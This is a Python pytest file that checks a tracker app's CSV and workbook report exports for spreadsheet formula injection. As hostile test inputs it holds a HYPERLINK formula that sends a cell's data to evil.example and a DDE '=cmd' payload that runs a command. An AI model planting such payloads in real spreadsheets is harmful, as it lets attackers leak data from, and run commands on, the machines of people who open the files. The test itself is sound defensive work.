"""Spreadsheets never turn what a user typed into a formula (docs/domain.md, "Assurance reports")."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from flask import Flask

from tests.factories import ProgressUpdateFactory
from tests.security.spreadsheets import formula_problems, report_endpoints, spreadsheets
from tracker.db import db

# What a hostile or careless user might type: each would run as a formula if written as one.
FORMULAS = {
    "description": '=HYPERLINK("https://evil.example/?"&A1,"Click for the audit")',
    "owner": "+44 1632 960000",
    "expected_outcome": "-2+3 more referrals each month",
    "milestones": "@SUM(1,2)",
}
NARRATIVE = "=cmd|' /C calc'!A0"


def test_user_text_is_never_a_formula(app: Flask, client_for: Any, samples: dict[str, int], own: Any) -> None:
    if not report_endpoints(app):
        pytest.skip("reports feature not present")
    for name, text in FORMULAS.items():
        setattr(own.action, name, text)
    own.action.recommendation.title = "=1+1"
    ProgressUpdateFactory(action=own.action, narrative=NARRATIVE)
    db.session.flush()
    texts = [*FORMULAS.values(), NARRATIVE, "=1+1"]
    problems, found, workbooks = [], set(), 0
    for where, response in spreadsheets(app, client_for("subgroup"), samples):
        if "csv" in response.content_type:
            rows = csv.reader(io.StringIO(response.get_data(as_text=True)))
            problems += [f"{where} has a field Excel would run: {v!r}" for row in rows for v in row if v in texts]
            continue
        workbooks += 1
        wrong, strings = formula_problems(response.data, texts)
        problems += wrong
        found |= {t for t in texts for s in strings if t in s}
    assert problems == []
    assert workbooks, "no spreadsheet could be downloaded"
    assert found, "no workbook carried the action's text: the check would prove nothing"
